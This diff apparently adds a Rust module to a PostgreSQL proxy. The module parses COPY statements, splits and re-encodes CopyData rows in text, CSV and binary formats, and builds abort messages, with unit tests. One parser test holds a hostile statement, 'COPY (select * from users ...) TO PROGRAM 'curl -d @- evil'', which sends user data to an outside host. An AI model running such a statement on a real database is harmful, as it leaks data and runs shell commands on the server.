@@ -0,0 +1,1016 @@
+//! COPY sub-protocol: the statement that started a COPY, and the rows carried by its
+//! CopyData messages, which are split without regard to row boundaries
+//! https://www.postgresql.org/docs/12/sql-copy.html
+//! https://www.postgresql.org/docs/12/protocol-flow.html#PROTOCOL-COPY
+
+use byteorder::{BigEndian, WriteBytesExt};
+use std::io::{Error, ErrorKind};
+
+use super::{
+    error::{ErrorResponse, Severity},
+    message::{BackendMessage, CopyResponse, FrontendMessage},
+    Reader,
+};
+use crate::{
+    packet::{DatabaseType, Packet},
+    sql::{self, Token, TokenKind},
+};
+
+/// Start of the binary format, followed by an Int32 of flags and the header extension
+pub const BINARY_SIGNATURE: &[u8] = b"PGCOPY\n\xff\r\n\x00";
+
+/// SQLSTATE of the ErrorResponse sent to the client when a COPY TO STDOUT is aborted
+pub const QUERY_CANCELED: &str = "57014";
+
+/// Largest row kept while waiting for the CopyData completing it, in bytes
+pub const COPY_PENDING_MAX: usize = 0x400_0000;
+
+/// Which way the data of a COPY flows, from the response that started it
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum CopyDirection {
+    /// COPY FROM STDIN, the client sends CopyData
+    In,
+    /// COPY TO STDOUT, the server sends CopyData
+    Out,
+    /// Streaming replication, both send CopyData
+    Both,
+}
+
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum CopyFormat {
+    Text,
+    Csv,
+    Binary,
+}
+
+/// Where a COPY statement reads or writes its data
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub enum CopyTarget {
+    /// STDIN or STDOUT, through CopyData messages
+    Client,
+    /// A file on the server
+    File(String),
+    /// A shell command run by the server
+    Program(String),
+}
+
+/// Options deciding how rows are written in CopyData
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct CopyOptions {
+    pub format: CopyFormat,
+    pub delimiter: u8,
+    /// Text standing for NULL
+    pub null: Vec<u8>,
+    /// The first row holds the column names
+    pub header: bool,
+    /// Quote and escape characters of the CSV format
+    pub quote: u8,
+    pub escape: u8,
+}
+
+impl CopyOptions {
+    /// The defaults of the server for a format
+    pub fn new(format: CopyFormat) -> CopyOptions {
+        let (delimiter, null): (u8, &[u8]) = match format {
+            CopyFormat::Csv => (b',', b""),
+            _ => (b'\t', b"\\N"),
+        };
+        CopyOptions {
+            format,
+            delimiter,
+            null: null.to_vec(),
+            header: false,
+            quote: b'"',
+            escape: b'"',
+        }
+    }
+}
+
+/// A COPY statement, found in a Query or in the statement run by an Execute
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct CopyStatement {
+    /// Table name, schema qualified when it is in the statement. None when copying a query.
+    pub table: Option<String>,
+    /// Query of a `COPY (query) TO`
+    pub query: Option<String>,
+    /// Columns listed after the table, empty for all of them
+    pub columns: Vec<String>,
+    /// COPY FROM, loading data into the table
+    pub from: bool,
+    pub target: CopyTarget,
+    pub options: CopyOptions,
+}
+
+impl CopyStatement {
+    /// Parse a COPY statement, in the current syntax or the one from before PostgresSQL 9.0.
+    /// Returns None for any other statement.
+    pub fn parse(sql: &str) -> Option<CopyStatement> {
+        let tokens = sql::tokenize(DatabaseType::PostgresSQL, sql);
+        let mut p = Parser { tokens, pos: 0 };
+        if !p.eat_word("copy") {
+            return None;
+        }
+        let (table, query, columns) = if p.eat_symbol("(") {
+            let start = p.pos;
+            let end = p.skip_parentheses()?;
+            let query = sql[p.tokens[start - 1].end()..p.tokens[end].start].trim();
+            (None, Some(query.to_string()), Vec::new())
+        } else {
+            let mut table = p.identifier()?;
+            while p.eat_symbol(".") {
+                table.push('.');
+                table.push_str(&p.identifier()?);
+            }
+            let mut columns = Vec::new();
+            if p.eat_symbol("(") {
+                loop {
+                    columns.push(p.identifier()?);
+                    if p.eat_symbol(")") {
+                        break;
+                    }
+                    p.expect_symbol(",")?;
+                }
+            }
+            (Some(table), None, columns)
+        };
+        let from = if p.eat_word("from") {
+            true
+        } else if p.eat_word("to") {
+            false
+        } else {
+            return None;
+        };
+        let target = if p.eat_word("stdin") || p.eat_word("stdout") {
+            CopyTarget::Client
+        } else if p.eat_word("program") {
+            CopyTarget::Program(p.string()?)
+        } else {
+            CopyTarget::File(p.string()?)
+        };
+
+        let mut format = None;
+        let mut options = CopyOptions::new(CopyFormat::Text);
+        let (mut delimiter, mut null, mut quote, mut escape) = (None, None, None, None);
+        p.eat_word("with");
+        if p.eat_symbol("(") {
+            // Current syntax: a list of options with optional values
+            loop {
+                let name = p.word()?;
+                let value = match p.peek_symbol() {
+                    Some(",") | Some(")") => None,
+                    Some("(") | Some("*") => {
+                        // Column lists of FORCE_QUOTE, FORCE_NOT_NULL and FORCE_NULL
+                        if p.eat_symbol("(") {
+                            p.skip_parentheses()?;
+                        } else {
+                            p.pos += 1;
+                        }
+                        None
+                    }
+                    _ => Some(p.value()?),
+                };
+                match (name.as_str(), value) {
+                    ("format", Some(value)) => format = Some(value.to_ascii_lowercase()),
+                    ("header", value) => {
+                        options.header = !matches!(
+                            value.as_deref().map(str::to_ascii_lowercase).as_deref(),
+                            Some("false") | Some("off") | Some("0")
+                        )
+                    }
+                    ("delimiter", value) => delimiter = value,
+                    ("null", value) => null = value,
+                    ("quote", value) => quote = value,
+                    ("escape", value) => escape = value,
+                    _ => {}
+                }
+                if p.eat_symbol(")") {
+                    break;
+                }
+                p.expect_symbol(",")?;
+            }
+        } else {
+            // Old syntax: keywords, some followed by a string
+            while let Some(word) = p.peek_word() {
+                p.pos += 1;
+                match word.as_str() {
+                    "binary" => format = Some(word),
+                    "csv" => format = Some(word),
+                    "header" => options.header = true,
+                    "delimiter" | "null" | "quote" | "escape" => {
+                        p.eat_word("as");
+                        let value = Some(p.string()?);
+                        match word.as_str() {
+                            "delimiter" => delimiter = value,
+                            "null" => null = value,
+                            "quote" => quote = value,
+                            _ => escape = value,
+                        }
+                    }
+                    "force" => {
+                        // FORCE QUOTE or FORCE NOT NULL followed by columns
+                        p.eat_word("not");
+                        p.word()?;
+                        while p.identifier().is_some() {
+                            if !p.eat_symbol(",") {
+                                break;
+                            }
+                        }
+                        p.eat_symbol("*");
+                    }
+                    _ => break,
+                }
+            }
+        }
+
+        options.format = match format.as_deref() {
+            Some("csv") => CopyFormat::Csv,
+            Some("binary") => CopyFormat::Binary,
+            _ => CopyFormat::Text,
+        };
+        let defaults = CopyOptions::new(options.format);
+        options.delimiter = first_byte(delimiter).unwrap_or(defaults.delimiter);
+        options.null = null.map(String::into_bytes).unwrap_or(defaults.null);
+        options.quote = first_byte(quote).unwrap_or(defaults.quote);
+        options.escape = first_byte(escape).unwrap_or(options.quote);
+        Some(CopyStatement {
+            table,
+            query,
+            columns,
+            from,
+            target,
+            options,
+        })
+    }
+
+    /// The server runs a shell command, with the privileges of its operating system user
+    pub fn is_program(&self) -> bool {
+        matches!(self.target, CopyTarget::Program(_))
+    }
+
+    /// The server reads or writes one of its own files
+    pub fn is_file(&self) -> bool {
+        matches!(self.target, CopyTarget::File(_))
+    }
+}
+
+fn first_byte(value: Option<String>) -> Option<u8> {
+    value.and_then(|v| v.bytes().next())
+}
+
+struct Parser<'a> {
+    tokens: Vec<Token<'a>>,
+    pos: usize,
+}
+
+impl<'a> Parser<'a> {
+    fn peek(&self) -> Option<&Token<'a>> {
+        self.tokens.get(self.pos)
+    }
+
+    fn peek_symbol(&self) -> Option<&'a str> {
+        self.peek()
+            .filter(|t| t.kind == TokenKind::Symbol)
+            .map(|t| t.text)
+    }
+
+    /// The next token if it is a keyword or unquoted identifier, lowercased
+    fn peek_word(&self) -> Option<String> {
+        self.peek()
+            .filter(|t| t.kind == TokenKind::Word)
+            .map(|t| t.text.to_lowercase())
+    }
+
+    fn eat_symbol(&mut self, symbol: &str) -> bool {
+        if self.peek_symbol() == Some(symbol) {
+            self.pos += 1;
+            true
+        } else {
+            false
+        }
+    }
+
+    fn eat_word(&mut self, word: &str) -> bool {
+        if self.peek().is_some_and(|t| t.is(word)) {
+            self.pos += 1;
+            true
+        } else {
+            false
+        }
+    }
+
+    fn expect_symbol(&mut self, symbol: &str) -> Option<()> {
+        if self.eat_symbol(symbol) {
+            Some(())
+        } else {
+            None
+        }
+    }
+
+    /// Take the next token if `f` accepts it
+    fn next_if<T>(&mut self, f: impl FnOnce(&Token) -> Option<T>) -> Option<T> {
+        let value = f(self.peek()?)?;
+        self.pos += 1;
+        Some(value)
+    }
+
+    fn word(&mut self) -> Option<String> {
+        let word = self.peek_word()?;
+        self.pos += 1;
+        Some(word)
+    }
+
+    fn identifier(&mut self) -> Option<String> {
+        self.next_if(|t| match t.kind {
+            TokenKind::Word => Some(t.text.to_lowercase()),
+            TokenKind::Identifier => Some(t.value()),
+            _ => None,
+        })
+    }
+
+    fn string(&mut self) -> Option<String> {
+        self.next_if(|t| match t.kind {
+            TokenKind::String => Some(t.value()),
+            _ => None,
+        })
+    }
+
+    /// Option value: a keyword, string, identifier or number
+    fn value(&mut self) -> Option<String> {
+        self.next_if(|t| match t.kind {
+            TokenKind::Word => Some(t.text.to_lowercase()),
+            TokenKind::Identifier | TokenKind::String | TokenKind::Number => Some(t.value()),
+            _ => None,
+        })
+    }
+
+    /// Skip past the parenthesis closing an opened one. Returns the position of the closing
+    /// parenthesis.
+    fn skip_parentheses(&mut self) -> Option<usize> {
+        let mut depth = 1;
+        loop {
+            let token = *self.peek()?;
+            self.pos += 1;
+            match (token.kind, token.text) {
+                (TokenKind::Symbol, "(") => depth += 1,
+                (TokenKind::Symbol, ")") => {
+                    depth -= 1;
+                    if depth == 0 {
+                        return Some(self.pos - 1);
+                    }
+                }
+                _ => {}
+            }
+        }
+    }
+}
+
+/// A COPY in progress on a connection, between the CopyInResponse, CopyOutResponse or
+/// CopyBothResponse starting it and the ReadyForQuery after it
+#[derive(Clone, Debug)]
+pub struct CopyState {
+    /// None when the COPY statement could not be parsed, like COPY run by a function
+    statement: Option<CopyStatement>,
+    direction: CopyDirection,
+    response: CopyResponse,
+    options: CopyOptions,
+    /// Bytes of an incomplete row, completed by a later CopyData
+    pending: Vec<u8>,
+    /// Most bytes kept in `pending`. A longer row stops the splitting of the COPY's rows.
+    pending_max: usize,
+    /// A row was longer than `pending_max`, the rest of the data is not split
+    overflowed: bool,
+    /// The binary header, or the header row, was read
+    header_read: bool,
+    /// What the last CopyData completed: rows, preceded by the header and followed by the
+    /// end marker when it contained them
+    rows: Vec<Vec<Option<Vec<u8>>>>,
+    prefix: Vec<u8>,
+    suffix: Vec<u8>,
+    /// The server ended the COPY with CommandComplete or ErrorResponse
+    done: bool,
+    /// A handler aborted the COPY, the rest of its messages are dropped
+    aborted: bool,
+}
+
+impl CopyState {
+    /// Start a COPY from the response of the server. The format is taken from the
+    /// statement, the response only telling text and CSV apart from binary.
+    pub fn new(
+        statement: Option<CopyStatement>,
+        direction: CopyDirection,
+        response: CopyResponse,
+    ) -> CopyState {
+        let options = match &statement {
+            Some(statement)
+                if (statement.options.format == CopyFormat::Binary) == (response.format == 1) =>
+            {
+                statement.options.clone()
+            }
+            _ if response.format == 1 => CopyOptions::new(CopyFormat::Binary),
+            _ => CopyOptions::new(CopyFormat::Text),
+        };
+        CopyState {
+            statement,
+            direction,
+            response,
+            options,
+            pending: Vec::new(),
+            pending_max: COPY_PENDING_MAX,
+            overflowed: false,
+            header_read: false,
+            rows: Vec::new(),
+            prefix: Vec::new(),
+            suffix: Vec::new(),
+            done: false,
+            aborted: false,
+        }
+    }
+
+    pub fn get_statement(&self) -> Option<&CopyStatement> {
+        self.statement.as_ref()
+    }
+
+    pub fn get_direction(&self) -> CopyDirection {
+        self.direction
+    }
+
+    /// The CopyInResponse, CopyOutResponse or CopyBothResponse that started the COPY
+    pub fn get_response(&self) -> &CopyResponse {
+        &self.response
+    }
+
+    pub fn get_options(&self) -> &CopyOptions {
+        &self.options
+    }
+
+    /// Rows completed by the last CopyData, one value per column with None for NULL. Text
+    /// and CSV values are unescaped, binary values are in the binary format of their type.
+    pub fn get_rows(&self) -> &[Vec<Option<Vec<u8>>>] {
+        &self.rows
+    }
+
+    pub fn is_done(&self) -> bool {
+        self.done
+    }
+
+    pub fn is_aborted(&self) -> bool {
+        self.aborted
+    }
+
+    /// Split the data of a CopyData into rows. Streaming replication data is not made of
+    /// rows and is left alone. Once a row is longer than `COPY_PENDING_MAX`, an error is
+    /// returned and the rest of the COPY is not split.
+    pub fn read(&mut self, data: &[u8]) -> Result<(), Error> {
+        self.rows.clear();
+        self.prefix.clear();
+        self.suffix.clear();
+        if self.direction == CopyDirection::Both || self.overflowed {
+            return Ok(());
+        }
+        self.pending.extend_from_slice(data);
+        let result = match self.options.format {
+            CopyFormat::Binary => self.read_binary(),
+            _ => self.read_text(),
+        };
+        if result.is_err() {
+            self.pending.clear();
+        } else if self.pending.len() > self.pending_max {
+            self.pending = Vec::new();
+            self.overflowed = true;
+            return Err(Error::new(
+                ErrorKind::InvalidData,
+                format!("COPY row is longer than {} bytes", self.pending_max),
+            ));
+        }
+        result
+    }
+
+    /// Whether a row was too long to be split, leaving the rest of the COPY unsplit
+    pub fn is_overflowed(&self) -> bool {
+        self.overflowed
+    }
+
+    /// The client or server sent CopyDone: a last row without a newline is complete
+    pub fn finish(&mut self) {
+        self.rows.clear();
+        self.prefix.clear();
+        self.suffix.clear();
+        if self.direction == CopyDirection::Both || self.overflowed || self.pending.is_empty() {
+            return;
+        }
+        if self.options.format != CopyFormat::Binary {
+            self.pending.push(b'\n');
+            if let Err(e) = self.read_text() {
+                debug!("Unable to read the last COPY row: {}", e);
+            }
+        }
+        self.pending.clear();
+    }
+
+    /// The server ended the COPY
+    pub fn end(&mut self) {
+        self.done = true;
+    }
+
+    /// A handler replaced one of the COPY's messages by the one built by `abort`
+    pub fn set_aborted(&mut self) {
+        self.aborted = true;
+    }
+
+    fn read_text(&mut self) -> Result<(), Error> {
+        let mut pos = 0;
+        while let Some(n) = self.find_row_end(pos) {
+            let end = pos + n + 1;
+            let mut line = &self.pending[pos..end - 1];
+            if line.last() == Some(&b'\r') {
+                line = &line[..line.len() - 1];
+            }
+            if line == b"\\." {
+                self.suffix.extend_from_slice(&self.pending[pos..end]);
+            } else if self.options.header && !self.header_read {
+                self.header_read = true;
+                self.prefix.extend_from_slice(&self.pending[pos..end]);
+            } else {
+                let row = match self.options.format {
+                    CopyFormat::Csv => decode_csv_row(line, &self.options),
+                    _ => decode_text_row(line, &self.options),
+                };
+                self.rows.push(row);
+            }
+            pos = end;
+        }
+        self.pending.drain(..pos);
+        Ok(())
+    }
+
+    /// Length of the row starting at `pos`, up to the newline ending it. CSV rows may contain
+    /// quoted newlines.
+    fn find_row_end(&self, pos: usize) -> Option<usize> {
+        let bytes = &self.pending[pos..];
+        if self.options.format != CopyFormat::Csv {
+            return bytes.iter().position(|b| *b == b'\n');
+        }
+        let (quote, escape) = (self.options.quote, self.options.escape);
+        let mut in_quotes = false;
+        let mut i = 0;
+        while i < bytes.len() {
+            let c = bytes[i];
+            if in_quotes && c == escape && escape != quote && i + 1 < bytes.len() {
+                i += 2;
+                continue;
+            }
+            if c == quote {
+                in_quotes = !in_quotes;
+            } else if c == b'\n' && !in_quotes {
+                return Some(i);
+            }
+            i += 1;
+        }
+        None
+    }
+
+    fn read_binary(&mut self) -> Result<(), Error> {
+        let mut pos = 0;
+        if !self.header_read {
+            let header_len = BINARY_SIGNATURE.len() + 8;
+            if self.pending.len() < header_len {
+                return Ok(());
+            }
+            if &self.pending[..BINARY_SIGNATURE.len()] != BINARY_SIGNATURE {
+                return Err(Error::new(
+                    ErrorKind::InvalidData,
+                    "Binary COPY data does not start with its signature",
+                ));
+            }
+            let mut r = Reader::new(&self.pending[BINARY_SIGNATURE.len() + 4..]);
+            let extension_len = r.read_i32()?;
+            if extension_len < 0 {
+                return Err(Error::new(
+                    ErrorKind::InvalidData,
+                    "Invalid binary COPY header extension length",
+                ));
+            }
+            if r.read_bytes(extension_len as usize).is_err() {
+                return Ok(());
+            }
+            pos = header_len + extension_len as usize;
+            self.header_read = true;
+            self.prefix.extend_from_slice(&self.pending[..pos]);
+        }
+        loop {
+            let mut r = Reader::new(&self.pending[pos..]);
+            let count = match r.read_i16() {
+                Ok(count) => count,
+                Err(_) => break,
+            };
+            if count == -1 {
+                self.suffix.extend_from_slice(&self.pending[pos..pos + 2]);
+                pos += 2;
+                continue;
+            }
+            if count < 0 {
+                return Err(Error::new(
+                    ErrorKind::InvalidData,
+                    format!("Invalid binary COPY field count {}", count),
+                ));
+            }
+            let mut row = Vec::with_capacity(count as usize);
+            let mut complete = true;
+            for _ in 0..count {
+                match r.read_i32() {
+                    Ok(-1) => row.push(None),
+                    Ok(len) if len < 0 => {
+                        return Err(Error::new(
+                            ErrorKind::InvalidData,
+                            format!("Invalid binary COPY field length {}", len),
+                        ))
+                    }
+                    Ok(len) => match r.read_bytes(len as usize) {
+                        Ok(value) => row.push(Some(value.to_vec())),
+                        Err(_) => complete = false,
+                    },
+                    Err(_) => complete = false,
+                }
+                if !complete {
+                    break;
+                }
+            }
+            if !complete {
+                break;
+            }
+            pos = self.pending.len() - r.remaining();
+            self.rows.push(row);
+        }
+        self.pending.drain(..pos);
+        Ok(())
+    }
+
+    /// Build a CopyData sent in place of the last one, carrying `rows` instead of the rows it
+    /// completed. The header and end marker it contained are kept. When every CopyData is
+    /// replaced this way, a row split across messages is sent once, with the message
+    /// completing it.
+    pub fn to_copy_data(&self, rows: &[Vec<Option<Vec<u8>>>]) -> Packet {
+        let mut data = self.prefix.clone();
+        for row in rows {
+            match self.options.format {
+                CopyFormat::Text => encode_text_row(&mut data, row, &self.options),
+                CopyFormat::Csv => encode_csv_row(&mut data, row, &self.options),
+                CopyFormat::Binary => encode_binary_row(&mut data, row),
+            }
+        }
+        data.extend_from_slice(&self.suffix);
+        match self.direction {
+            CopyDirection::In => FrontendMessage::CopyData(data).to_packet(),
+            _ => BackendMessage::CopyData(data).to_packet(),
+        }
+    }
+
+    /// Build the message aborting the COPY, sent in place of one of its messages. The server
+    /// is sent a CopyFail during a COPY FROM STDIN, and answers it with an ErrorResponse. The
+    /// client is sent an ErrorResponse during a COPY TO STDOUT. Either way, the rest of the
+    /// COPY is then dropped by the proxy.
+    pub fn abort(&self, message: &str) -> Packet {
+        match self.direction {
+            CopyDirection::In => FrontendMessage::CopyFail(message.to_string()).to_packet(),
+            _ => ErrorResponse::new(Severity::Error, QUERY_CANCELED, message).to_error_packet(),
+        }
+    }
+}
+
+/// Split a text format row into values, resolving backslash escapes
+pub fn decode_text_row(line: &[u8], options: &CopyOptions) -> Vec<Option<Vec<u8>>> {
+    let mut row = Vec::new();
+    let mut i = 0;
+    loop {
+        let start = i;
+        // Escaped delimiters do not end the value
+        while i < line.len() && line[i] != options.delimiter {
+            i += if line[i] == b'\\' { 2 } else { 1 };
+        }
+        let end = i.min(line.len());
+        let raw = &line[start..end];
+        if raw == &options.null[..] {
+            row.push(None);
+        } else {
+            row.push(Some(unescape_text(raw)));
+        }
+        if end >= line.len() {
+            return row;
+        }
+        i = end + 1;
+    }
+}
+
+fn unescape_text(raw: &[u8]) -> Vec<u8> {
+    let mut value = Vec::with_capacity(raw.len());
+    let mut i = 0;
+    while i < raw.len() {
+        if raw[i] != b'\\' || i + 1 == raw.len() {
+            value.push(raw[i]);
+            i += 1;
+            continue;
+        }
+        let c = raw[i + 1];
+        i += 2;
+        match c {
+            b'b' => value.push(8),
+            b'f' => value.push(12),
+            b'n' => value.push(b'\n'),
+            b'r' => value.push(b'\r'),
+            b't' => value.push(b'\t'),
+            b'v' => value.push(11),
+            b'0'..=b'7' => {
+                let mut n = u32::from(c - b'0');
+                let mut digits = 1;
+                while digits < 3 && i < raw.len() && (b'0'..=b'7').contains(&raw[i]) {
+                    n = n * 8 + u32::from(raw[i] - b'0');
+                    i += 1;
+                    digits += 1;
+                }
+                value.push(n as u8);
+            }
+            b'x' if i < raw.len() && raw[i].is_ascii_hexdigit() => {
+                let mut n = 0;
+                let mut digits = 0;
+                while digits < 2 && i < raw.len() && raw[i].is_ascii_hexdigit() {
+                    n = n * 16 + (raw[i] as char).to_digit(16).unwrap_or(0);
+                    i += 1;
+                    digits += 1;
+                }
+                value.push(n as u8);
+            }
+            _ => value.push(c),
+        }
+    }
+    value
+}
+
+/// Append a text format row, escaping what would be read as a delimiter or newline
+pub fn encode_text_row(buf: &mut Vec<u8>, row: &[Option<Vec<u8>>], options: &CopyOptions) {
+    for (i, value) in row.iter().enumerate() {
+        if i > 0 {
+            buf.push(options.delimiter);
+        }
+        let value = match value {
+            Some(value) => value,
+            None => {
+                buf.extend_from_slice(&options.null);
+                continue;
+            }
+        };
+        for b in value {
+            match *b {
+                b'\\' => buf.extend_from_slice(b"\\\\"),
+                b'\n' => buf.extend_from_slice(b"\\n"),
+                b'\r' => buf.extend_from_slice(b"\\r"),
+                b if b == options.delimiter => buf.extend_from_slice(&[b'\\', b]),
+                b => buf.push(b),
+            }
+        }
+    }
+    buf.push(b'\n');
+}
+
+/// Split a CSV row into values. Only unquoted values matching the NULL text are NULL.
+pub fn decode_csv_row(line: &[u8], options: &CopyOptions) -> Vec<Option<Vec<u8>>> {
+    let mut row = Vec::new();
+    let mut value = Vec::new();
+    let mut quoted = false;
+    let mut in_quotes = false;
+    let mut i = 0;
+    loop {
+        if i == line.len() || (!in_quotes && line[i] == options.delimiter) {
+            if !quoted && value == options.null {
+                row.push(None);
+                value.clear();
+            } else {
+                row.push(Some(std::mem::take(&mut value)));
+            }
+            quoted = false;
+            if i == line.len() {
+                return row;
+            }
+            i += 1;
+            continue;
+        }
+        let c = line[i];
+        let next = line.get(i + 1).copied();
+        if in_quotes {
+            // The escape character escapes quotes, and itself when it is not the quote
+            let escaped = next.filter(|n| {
+                *n == options.quote || (options.escape != options.quote && *n == options.escape)
+            });
+            if let (true, Some(escaped)) = (c == options.escape, escaped) {
+                value.push(escaped);
+                i += 2;
+                continue;
+            }
+            if c == options.quote {
+                in_quotes = false;
+            } else {
+                value.push(c);
+            }
+        } else if c == options.quote {
+            in_quotes = true;
+            quoted = true;
+        } else {
+            value.push(c);
+        }
+        i += 1;
+    }
+}
+
+/// Append a CSV row, quoting values that would otherwise be read differently
+pub fn encode_csv_row(buf: &mut Vec<u8>, row: &[Option<Vec<u8>>], options: &CopyOptions) {
+    for (i, value) in row.iter().enumerate() {
+        if i > 0 {
+            buf.push(options.delimiter);
+        }
+        let value = match value {
+            Some(value) => value,
+            None => {
+                buf.extend_from_slice(&options.null);
+                continue;
+            }
+        };
+        let needs_quotes = value == &options.null
+            || value == b"\\."
+            || value.iter().any(|b| {
+                *b == options.delimiter || *b == options.quote || *b == b'\n' || *b == b'\r'
+            });
+        if !needs_quotes {
+            buf.extend_from_slice(value);
+            continue;
+        }
+        buf.push(options.quote);
+        for b in value {
+            if *b == options.quote || *b == options.escape {
+                buf.push(options.escape);
+            }
+            buf.push(*b);
+        }
+        buf.push(options.quote);
+    }
+    buf.push(b'\n');
+}
+
+/// Append a binary format row
+pub fn encode_binary_row(buf: &mut Vec<u8>, row: &[Option<Vec<u8>>]) {
+    buf.write_i16::<BigEndian>(row.len() as i16).unwrap();
+    for value in row {
+        match value {
+            Some(value) => {
+                buf.write_i32::<BigEndian>(value.len() as i32).unwrap();
+                buf.extend_from_slice(value);
+            }
+            None => buf.write_i32::<BigEndian>(-1).unwrap(),
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn row(values: &[Option<&str>]) -> Vec<Option<Vec<u8>>> {
+        values
+            .iter()
+            .map(|v| v.map(|v| v.as_bytes().to_vec()))
+            .collect()
+    }
+
+    #[test]
+    fn parses_copy_statements() {
+        let copy = CopyStatement::parse(
+            "COPY public.\"Users\" (id, Name) FROM STDIN WITH (FORMAT csv, HEADER, DELIMITER ';')",
+        )
+        .unwrap();
+        assert_eq!(copy.table.as_deref(), Some("public.Users"));
+        assert_eq!(copy.columns, vec!["id", "name"]);
+        assert!(copy.from);
+        assert_eq!(copy.target, CopyTarget::Client);
+        assert_eq!(copy.options.format, CopyFormat::Csv);
+        assert_eq!(copy.options.delimiter, b';');
+        assert!(copy.options.header);
+        assert!(copy.options.null.is_empty());
+
+        let copy = CopyStatement::parse(
+            "copy (select * from users where name = 'a)') to program 'curl -d @- evil' csv",
+        )
+        .unwrap();
+        assert_eq!(
+            copy.query.as_deref(),
+            Some("select * from users where name = 'a)'")
+        );
+        assert!(!copy.from);
+        assert!(copy.is_program());
+        assert_eq!(copy.options.format, CopyFormat::Csv);
+
+        let copy = CopyStatement::parse("COPY users TO '/tmp/users' WITH BINARY").unwrap();
+        assert_eq!(copy.target, CopyTarget::File("/tmp/users".to_string()));
+        assert_eq!(copy.options.format, CopyFormat::Binary);
+        assert_eq!(
+            CopyStatement::parse("COPY t FROM stdin NULL AS 'x' DELIMITER AS '|'")
+                .unwrap()
+                .options
+                .null,
+            b"x"
+        );
+        assert_eq!(CopyStatement::parse("SELECT 1"), None);
+    }
+
+    #[test]
+    fn splits_rows_across_copy_data() {
+        let statement = CopyStatement::parse("COPY t FROM STDIN").unwrap();
+        let response = CopyResponse {
+            format: 0,
+            column_formats: vec![0, 0],
+        };
+        let mut copy = CopyState::new(Some(statement), CopyDirection::In, response);
+        copy.read(b"1\ta\\tb\n2\t\\N\n3\tpar").unwrap();
+        assert_eq!(
+            copy.get_rows(),
+            [row(&[Some("1"), Some("a\tb")]), row(&[Some("2"), None])]
+        );
+        copy.read(b"tial\n\\.\n").unwrap();
+        assert_eq!(copy.get_rows(), [row(&[Some("3"), Some("partial")])]);
+
+        let packet = copy.to_copy_data(&[row(&[Some("3"), Some("new\nline")])]);
+        assert_eq!(
+            FrontendMessage::parse(&packet).unwrap(),
+            FrontendMessage::CopyData(b"3\tnew\\nline\n\\.\n".to_vec())
+        );
+        assert_eq!(
+            FrontendMessage::parse(&copy.abort("too many rows")).unwrap(),
+            FrontendMessage::CopyFail("too many rows".to_string())
+        );
+    }
+
+    #[test]
+    fn stops_splitting_rows_over_the_limit() {
+        let response = CopyResponse {
+            format: 0,
+            column_formats: vec![0],
+        };
+        let mut copy = CopyState::new(None, CopyDirection::In, response);
+        copy.pending_max = 8;
+        copy.read(b"1\n2345").unwrap();
+        assert_eq!(copy.get_rows(), [row(&[Some("1")])]);
+        let e = copy.read(b"67890").unwrap_err();
+        assert_eq!(e.kind(), ErrorKind::InvalidData);
+        assert!(copy.is_overflowed());
+        copy.read(b"\n3\n").unwrap();
+        assert!(copy.get_rows().is_empty());
+        copy.finish();
+        assert!(copy.get_rows().is_empty());
+    }
+
+    #[test]
+    fn csv_rows_round_trip() {
+        let statement = CopyStatement::parse("COPY t TO STDOUT (FORMAT csv, HEADER)").unwrap();
+        let response = CopyResponse {
+            format: 0,
+            column_formats: vec![0, 0, 0],
+        };
+        let mut copy = CopyState::new(Some(statement), CopyDirection::Out, response);
+        copy.read(b"a,b,c\n1,\"x,\"\"y\"\"\nz\",\n2,\"\",plain\n")
+            .unwrap();
+        let rows = vec![
+            row(&[Some("1"), Some("x,\"y\"\nz"), None]),
+            row(&[Some("2"), Some(""), Some("plain")]),
+        ];
+        assert_eq!(copy.get_rows(), &rows[..]);
+        assert_eq!(
+            BackendMessage::parse(&copy.to_copy_data(&rows)).unwrap(),
+            BackendMessage::CopyData(b"a,b,c\n1,\"x,\"\"y\"\"\nz\",\n2,\"\",plain\n".to_vec())
+        );
+    }
+
+    #[test]
+    fn splits_binary_rows() {
+        let response = CopyResponse {
+            format: 1,
+            column_formats: vec![1, 1],
+        };
+        let mut copy = CopyState::new(None, CopyDirection::Out, response);
+        let mut data = BINARY_SIGNATURE.to_vec();
+        data.extend_from_slice(&[0; 8]);
+        let rows = vec![
+            vec![Some(vec![0, 0, 0, 1]), None],
+            vec![Some(vec![0, 0, 0, 2]), Some(b"b".to_vec())],
+        ];
+        for row in &rows {
+            encode_binary_row(&mut data, row);
+        }
+        data.extend_from_slice(&[0xff, 0xff]);
+
+        copy.read(&data[..40]).unwrap();
+        assert_eq!(copy.get_rows(), &rows[..1]);
+        copy.read(&data[40..]).unwrap();
+        assert_eq!(copy.get_rows(), &rows[1..]);
+        let mut invalid = CopyState::new(None, CopyDirection::Out, copy.get_response().clone());
+        assert!(invalid
+            .read(b"NOTPGCOPY\n\x00\x00\x00\x00\x00\x00\x00\x00\x00")
+            .is_err());
+    }
+}